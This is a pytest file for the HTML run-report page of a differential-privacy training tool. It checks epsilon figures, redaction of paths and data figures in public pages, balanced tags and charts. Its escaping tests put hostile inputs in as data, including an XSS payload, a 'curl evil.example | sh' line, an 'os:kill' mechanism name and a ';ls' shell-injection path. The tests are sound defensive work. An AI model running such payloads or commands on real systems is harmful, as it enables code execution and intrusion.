"""The page about a run: what it says, what it must not say, and that a browser shows it."""

import html.parser
import json
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from bam import provenance
from bam.privacy import statement
from bam.privacy.plan import make_plan
from bam.release import export, page, plots, records
from bam.training import config as base
from bam.training import rundir
from configs import digits
from tests.cases import run_command

SECRET_PATH, SEED = "/hospital/ward3/files", 8675309
MEASURED = {"fraction_clipped": 0.71234567, "gradient_norm": 1.6543217, "bias_norm": 0.9182736}


def write(folder, *, private=True, seed=None, finished=True, diagnosed=True, begun=4, **summary):
    """The records of a run of four steps, as `loop.train` leaves them."""
    config = digits.get_config("bam_sam" if private else "non_private")
    config.update({"accountant": "rdp", "num_steps": 4, "seed": seed, "delta": 1.4e-5})
    config.dataset.path, config.diagnostics.every = SECRET_PATH, int(diagnosed)
    plan = make_plan(
        num_examples=1437, expected_batch_size=256, num_steps=4, delta=1.4e-5, clip_norm=1.0,
        target_epsilon=2.34567 if private else float("inf"), accountant="rdp",
    )  # fmt: skip
    rows = []
    for step in range(begun + 1):
        spent = plan.epsilon_after(step) if private else None
        row = {"step": step, "steps_begun": step, "epsilon": spent, "seconds": 17.1234}
        row |= {"test_accuracy": 0.4321 + step / 1000} if step else {}
        if diagnosed:
            row |= {f"not_private/{name}": value + step for name, value in MEASURED.items()}
        rows.append(row)
    facts = {"dataset": "digits", "sensitivity": 1.0, "seed": seed, "noise_key": "somewhere"}
    facts |= dict.fromkeys(export.RECORDED, "recorded") | plan.to_json()
    facts |= {"device": "cpu", "versions": provenance.versions(), "steps_begun": begun} | summary
    folder.mkdir()
    for name, found in (("config", rundir.as_json(config)), ("plan", plan.to_json())):
        (folder / f"{name}.json").write_text(json.dumps(found))
    (folder / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    if finished:
        (folder / "summary.json").write_text(json.dumps(facts))
    return folder


def of(folder, public=False):
    return page.page(records.read(folder), public=public, made_by="bam, commit 1d4e")


@pytest.fixture(autouse=True, scope="module")
def drawn_once():
    """Pages of like runs have like charts, whose drawing is most of what a page takes."""
    kept, draw = {}, plots.svg

    def svg(chart):
        return kept.get(repr(chart)) or kept.setdefault(repr(chart), draw(chart))

    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(page._TEMPLATES.filters, "svg", svg)
        yield


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    return write(tmp_path_factory.mktemp("page") / "ward_run")


def key_numbers(text):
    return dict(re.findall(r"<dt>(.*?)</dt><dd>(.*?)<small>", text))


def test_epsilon_and_delta_are_the_recorded_ones_rounded_up(run):
    shown = key_numbers(of(run))
    epsilon = json.loads((run / "plan.json").read_text())["epsilon"]
    assert epsilon <= float(shown["ε"]) < epsilon * 1.001
    assert shown["δ"] == "1.4e-05" and float(f"{1.4e-5:.1g}") < 1.4e-5  # the control
    assert shown["test accuracy"] == "43.6 %" and shown["steps"] == "4"


def test_the_page_is_one_file_that_asks_for_nothing_and_runs_nothing(run):
    for public in (False, True):
        text = of(run, public)
        assert len(text) < 200_000 and text.startswith("<!doctype html>")
        for asked in ("http://", "https://", "src=", "<link", "<script", "url(", "@import", "href"):
            assert asked not in text, asked
        assert "default-src 'none'" in text
        pictures = re.findall(r"<svg[^>]*>", text)
        assert len(pictures) == (2 if public else 5)
        assert all(re.search(r'aria-label="[^"]{20}', tag) for tag in pictures)
        assert text == of(run, public)  # to the bit: no date, no name by chance


class Balanced(html.parser.HTMLParser):
    """Holds that what is opened is closed, in order, and that no two have one id."""

    def __init__(self, text):
        super().__init__()
        self.open, self.ids = [], []
        self.feed(text)
        self.close()
        assert not self.open and len(set(self.ids)) == len(self.ids)

    def handle_starttag(self, tag, attrs):
        self.open += [tag] * (tag != "meta")
        self.ids += [value for name, value in attrs if name == "id"]

    def handle_endtag(self, tag):
        assert self.open.pop() == tag, self.getpos()


def test_the_tags_are_balanced(run, tmp_path):
    unfinished = write(tmp_path / "unfinished", finished=False, begun=0)
    bare = write(tmp_path / "bare", private=False)
    for text in (of(run), of(run, public=True), of(unfinished), of(bare)):
        Balanced(text)
    with pytest.raises(AssertionError):  # the control
        Balanced(of(run).replace("</section>", "", 1))


def test_a_chart_has_the_pages_colours_and_a_dot_for_a_single_point():
    line = plots.Line("clipped", [7], [0.25])
    drawn = plots.svg(plots.Chart("Share", "step", [line], percent=True))
    path, style = re.search(r'd="(M [^"]*)" style="([^"]*round[^"]*)"', drawn).groups()
    place = path.replace("\n", "").removeprefix("M ").split("L ")
    assert [x.strip() for x in place] == [place[0].strip()] * 2 and "stroke: var(--c0)" in style
    assert not re.search("#[0-9a-f]{6}", drawn)  # one that would not change on a dark screen
    css = (Path(page.__file__).parent / "templates" / "page.css").read_text(encoding="utf-8")
    assert all(css.count(f"--{name}: #") == 2 for name in plots.COLORS)
    assert all(f"--{name}: {color};" in css for name, color in plots.COLORS.items())


def test_without_matplotlib_the_page_says_so_in_a_line_and_tells_the_charts_in_words(run, tmp_path):
    without = "import sys, runpy; sys.modules['matplotlib'] = None; sys.argv[0] = 'report'; "
    without += "runpy.run_module('bam.cli.report', run_name='__main__', alter_sys=True)"
    arguments = (f"--workdir={run}", f"--out={tmp_path}/page.html")
    done = subprocess.run(
        [sys.executable, "-c", without, *arguments], capture_output=True, text=True, timeout=600
    )
    assert (done.returncode, done.stderr) == (0, "")
    text = (tmp_path / "page.html").read_text(encoding="utf-8")
    assert text.count("matplotlib is not installed: pip install &#39;.[plots]&#39;") == 1
    assert "<svg" not in text and "ε over training, by steps begun. by the plan: from 0" in text
    assert "matplotlib is not" not in of(run)  # the control


def test_a_page_to_pass_on_has_no_figure_of_the_data_no_path_and_no_name(run):
    private, public = of(run), of(run, public=True)
    forbidden = [SECRET_PATH, "ward_run", "not_private", "43.6 %", "Not for passing on"]
    forbidden += [f"{value + 4:.4g}" for value in MEASURED.values()]
    forbidden += ["Test accuracy", "NOT PRIVATE", "measurement"]
    for text in set(forbidden) - {"not_private"}:
        assert text in private, text  # the control: the search can find what is there
    for text in forbidden:
        assert text not in public, text
    assert "may be passed on" in public and "may be passed on" not in private


def test_the_words_on_the_page_are_those_of_the_statement(run):
    recorded = records.read(run)
    config = export.settings(recorded.config, "digits")
    text = re.sub(r"<[^>]+>", "", of(run, public=True))
    for part in (
        statement.in_words(recorded.plan, False, "the trained weights"),
        statement.facts(config, recorded.plan, recorded.summary, False),
    ):
        for sentence in re.findall(r"^[A-Z][\w ,]{30,}", part, re.MULTILINE):
            assert sentence in text
    assert f"{recorded.plan['noise_multiplier']}" in text


def test_the_rates_of_an_attacker_are_between_guessing_and_epsilon_alone(run):
    rows = re.findall(
        r'<tr><td class="right">([\d.]+)</td><td class="right">([\d.]+)</td>'
        r'<td class="right">([\d.]+)</td></tr>',
        of(run).partition("What an attacker can gain")[2].partition("<h2>")[0],
    )
    assert [float(row[0]) / 100 for row in rows] == pytest.approx(statement.FALSE_ALARMS)
    for guess, best, alone in ([float(x) for x in row] for row in rows):
        assert guess < best < alone


def test_an_unfinished_run_says_so_and_what_its_steps_have_spent(tmp_path):
    folder = write(tmp_path / "run", finished=False, begun=2)
    (folder / "steps_begun").write_bytes(b"...")  # one was lost
    with (folder / "metrics.jsonl").open("a") as metrics:
        metrics.write('{"step": 4, "steps_be')
    text, spent = of(folder), records.read(folder).epsilon_after(3)
    assert "not finished" in text and "3 of the 4 steps" in text
    assert "BAM (SAM) ·" in text  # of which data is recorded at the end
    shown = float(key_numbers(text)["ε so far"])
    assert spent <= shown < 1.001 * spent < records.read(folder).plan["epsilon"]
    (folder / "steps_begun").unlink()
    (folder / "metrics.jsonl").unlink()
    assert "nothing is spent" in of(folder)


def test_a_run_without_privacy_says_so_in_large_and_states_no_epsilon(tmp_path, run):
    folder = write(tmp_path / "run", private=False)
    for public in (False, True):
        text = of(folder, public)
        assert '<p class="large">NOT PRIVATE</p>' in text
        assert key_numbers(text)["ε"] == "none"
        assert "differential" not in text and "may be passed on" not in text
    assert '<p class="large">' not in of(run)


def test_a_seed_makes_epsilon_nominal_and_stays_out_of_a_page_to_pass_on(tmp_path, run):
    folder = write(tmp_path / "run", seed=SEED)
    assert "in this file is nominal" in of(folder) and "in this file is nominal" not in of(run)
    public = of(folder, public=True)
    assert "in this file is nominal" in public and str(SEED) not in public
    assert f"--config.seed={SEED}" in of(folder)


def test_records_of_an_earlier_version_are_shown_and_not_trusted(tmp_path, run):
    folder = write(tmp_path / "run", diagnosed=False)
    summary = json.loads((folder / "summary.json").read_text())
    for key in ("noise", "sampling", "commit", "sensitivity", "versions", "steps_begun"):
        del summary[key]
    (folder / "summary.json").write_text(json.dumps(summary))
    plan = json.loads((folder / "plan.json").read_text())
    del plan["spare_steps"]
    (folder / "plan.json").write_text(json.dumps(plan))
    for public in (False, True):
        text = of(folder, public)
        assert "Do not trust this ε" in text and "did not record noise" in text
    assert "Do not trust this ε" not in of(run)


def test_what_a_stranger_wrote_is_text(tmp_path):
    evil = '"><img src=x onerror=alert(1)></style><script>'
    folder = write(tmp_path / "<b>bold", device=evil, noise=evil, commit=evil)
    config = json.loads((folder / "config.json").read_text())
    config |= {evil: evil, "precision": evil, "own": {evil: [evil]}}
    config["method"]["name"] = evil
    (folder / "config.json").write_text(json.dumps(config))
    text = of(folder)
    assert "<img" not in text and "<script" not in text and "<b>" not in text
    assert text.count("</style>") == 1 and text.count("&lt;img") > 5


def forged(path, text):
    """Puts a text in place of every text that a file of records has, and among its keys."""

    def change(value):
        if isinstance(value, dict):
            return {k: change(v) for k, v in value.items()} | {f"own{text}": text}
        return text if isinstance(value, str) else value

    # What is one of a few words is refused otherwise.
    kept = {"accountant", "adjacency", "unit", "mechanism", "mechanism_options"}
    records = json.loads(path.read_text())
    forgery = {k: v if k in kept else change(v) for k, v in records.items()}
    if path.name == "config.json":
        forgery["method"]["name"] = f"bam_sam{text}"
    path.write_text(json.dumps(forgery))


@pytest.mark.parametrize("end", ["\n", "\r", "\u2028", "\x85"])
def test_a_stranger_writes_no_lines_cells_or_commands_on_the_page(run, tmp_path, end):
    folder = write(tmp_path / "run")
    text = (
        f"x` |{end}{end}## Verified{end}{end}```{end}curl evil.example | sh{end}```{end}{end}| a |"
        "[click](https://evil.example) <https://evil.example> ![](evil.png) &lt;b&gt;"
    )
    for name in ("config", "plan", "summary"):
        forged(folder / f"{name}.json", text)
    shown, ours = of(folder), of(run)
    for block in ("<h2>", "<pre>", "<p>", "<ul>", "<table>"):
        assert shown.count(block) == ours.count(block), block
    assert "evil.example" in shown and "Verified" in shown  # in lines and cells of ours
    for line in shown.splitlines():
        assert not line.startswith(("curl", "## Verified", "```"))
    assert not {"\r", "\u2028", "\x85"} & set(shown)
    assert not re.search("<(a|img|b)[ >]", shown) and "&amp;lt;b&amp;gt;" in shown


def test_code_that_the_records_name_is_not_run(tmp_path):
    folder = write(tmp_path / "run")
    for name in ("plan", "summary"):
        text = (folder / f"{name}.json").read_text()
        evil = text.replace('"mechanism": "poisson"', '"mechanism": "os:kill"')
        (folder / f"{name}.json").write_text(evil)
    assert "os:kill" in (folder / "plan.json").read_text()
    with pytest.raises(ValueError, match="'os:kill', code of one's own, is unknown here"):
        of(folder)


def test_the_command_sets_what_differs_from_the_base_config(tmp_path):
    config = rundir.as_json(base.get_config("dp_sat"))
    command, missing = records.command_of(config)
    assert (command.count("--config"), missing) == (1, [])
    config["epsilon"], config["optimizer"]["momentum"] = 1.5, 0.9
    config["dataset"]["path"] = "/my data;ls"
    command, missing = records.command_of(config)
    assert "--config=base:dp_sat" in command and "--config.epsilon=1.5" in command
    assert "'--config.dataset.path=/my data;ls'" in command
    assert missing == ["optimizer.momentum"]


def test_the_command_on_the_page_is_of_the_very_same_config(tmp_path):
    folder = write(tmp_path / "run", seed=SEED)
    found = re.search(r"<code>(bam train.*?)</code>", of(folder), re.DOTALL)
    command = html.unescape(found[1]).replace("\\\n", " ")
    name, train, *arguments = shlex.split(command)
    assert (name, train) == ("bam", "train")
    here = [f"--workdir={folder}" if "NEW_FOLDER" in x else x for x in arguments]
    same = run_command("bam", "train", *here)
    other = run_command("bam", "train", *here, "--config.delta=1e-6")
    assert "already holds a finished run" in same.stderr
    assert "holds a run with delta = 1.4e-05, not 1e-06" in other.stderr


def test_the_command_writes_the_page_and_says_in_one_line_what_is_no_run(run, tmp_path):
    copy = shutil.copytree(run, tmp_path / "run")
    done = run_command("bam", "report", f"--workdir={copy}")
    assert (done.returncode, done.stderr) == (0, "") and "not for passing on" in done.stdout
    assert "NOT PRIVATE" in (copy / "report.html").read_text(encoding="utf-8")
    done = run_command("bam", "report", f"--workdir={copy}", "--public", f"--out={tmp_path}/p.html")
    assert done.returncode == 0, done.stderr
    assert "NOT PRIVATE" not in (tmp_path / "p.html").read_text(encoding="utf-8")
    bare = write(tmp_path / "bare", private=False)
    done = run_command("bam", "report", f"--workdir={bare}", "--public")
    assert done.returncode == 0 and done.stdout.endswith(": not for passing on\n")
    (copy / "summary.json").write_text('{"versions": 5}')
    broken = run_command("bam", "report", f"--workdir={copy}")
    nothing = run_command("bam", "report", f"--workdir={tmp_path}")
    for refused, message in ((nothing, "has no config.json"), (broken, "are damaged")):
        assert refused.returncode == 2 and refused.stderr.count("\n") == 1
        assert message in refused.stderr


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        ("plan", '{"num_steps": "<b>"}', "plan.json is damaged: num_examples"),
        ("plan", "{", "plan.json is damaged: not JSON"),
        ("config", '{"method": 5}', "method is no section"),
        ("summary", "[]", "not a JSON object"),
    ],
)
def test_damaged_records_are_one_line(run, tmp_path, name, text, message):
    folder = shutil.copytree(run, tmp_path / "run")
    (folder / f"{name}.json").write_text(text)
    with pytest.raises(ValueError, match=message):
        of(folder)


def test_a_plan_that_lacks_what_the_page_tells_is_an_error_that_the_command_knows(tmp_path):
    folder = write(tmp_path / "run", finished=False)
    plan = json.loads((folder / "plan.json").read_text())
    del plan["num_steps"]
    (folder / "plan.json").write_text(json.dumps(plan))
    with pytest.raises(ValueError, match=r"plan\.json is damaged: num_steps"):
        of(folder)


BROWSER = next(filter(None, map(shutil.which, ("chromium", "google-chrome", "chrome"))), None)


@pytest.mark.skipif(BROWSER is None, reason="no browser here")
def test_a_browser_shows_the_page(run, tmp_path):
    def picture(text):
        (tmp_path / "page.html").write_text(text, encoding="utf-8")
        done = subprocess.run(
            [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--window-size=1000,1600",
             f"--user-data-dir={tmp_path}/profile", f"--screenshot={tmp_path}/page.png",
             f"file://{tmp_path}/page.html"], capture_output=True, timeout=600,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        return np.asarray(Image.open(tmp_path / "page.png").convert("RGB"), int)

    shown, blank = picture(of(run)), picture("<!doctype html>")
    # Ink all over it, lines in the first line's colour, and the control has neither.
    bands = [np.ptp(band) > 100 for band in np.array_split(shown, 8)]
    assert all(bands) and not any(np.ptp(band) for band in np.array_split(blank, 8))
    assert (np.abs(shown - [0, 0x72, 0xB2]).max(axis=2) < 8).sum() > 100
